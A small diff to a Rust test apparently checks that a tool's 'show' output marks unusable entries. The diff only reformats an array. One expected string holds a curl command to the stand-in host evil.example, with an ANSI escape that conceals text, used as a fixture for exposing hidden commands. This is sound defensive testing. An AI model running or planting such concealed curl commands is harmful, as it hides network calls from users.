@@ -82,9 +82,10 @@ fn show_tells_what_runs_beside_the_plaintext() {
     let lines: Vec<String> =
         show.text().lines().map(|line| line.split_whitespace().collect::<Vec<_>>().join(" ")).collect();
     // Neither can be used so, and that is said beside it.
-    for expected in
-        [r"rotator exec (command = curl \u{1b}[8m evil.example); can't be used: `command`", "probe manual; can't be used: "]
-    {
+    for expected in [
+        r"rotator exec (command = curl \u{1b}[8m evil.example); can't be used: `command`",
+        "probe manual; can't be used: ",
+    ] {
         assert!(lines.iter().any(|line| line.starts_with(expected)), "{expected}: {lines:#?}");
     }
 }
